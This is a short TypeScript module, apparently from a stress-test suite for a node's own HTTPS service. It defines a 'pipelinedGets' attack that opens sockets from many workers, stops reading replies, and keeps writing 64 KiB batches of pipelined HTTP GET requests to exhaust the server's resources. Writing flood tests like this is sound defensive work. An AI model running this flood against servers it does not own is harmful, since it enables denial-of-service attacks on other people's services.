import { type Attack, createAssault } from './attack.ts'

const request = 'GET / HTTP/1.1\r\n\r\n'
const requestsAtOnce = 3640 // 64 KiB
const many = Buffer.from(request.repeat(requestsAtOnce))
/** Longest wait until the node takes the next requests, milliseconds. */
const patienceMs = 1_000

/** An anonymous client sends requests without waiting for answers, and reads no answer. */
export const pipelinedGets: Attack = (target, force) => {
  const assault = createAssault(force)
  return assault.everywhere(async (worker) => {
    const socket = await assault.connect(target.httpsPort, worker)
    if (!socket) return
    socket.pause()
    while (!assault.isOver() && (await assault.write(socket, many, patienceMs))) {
      assault.seen.units += requestsAtOnce
    }
    assault.leave(socket)
  })
}
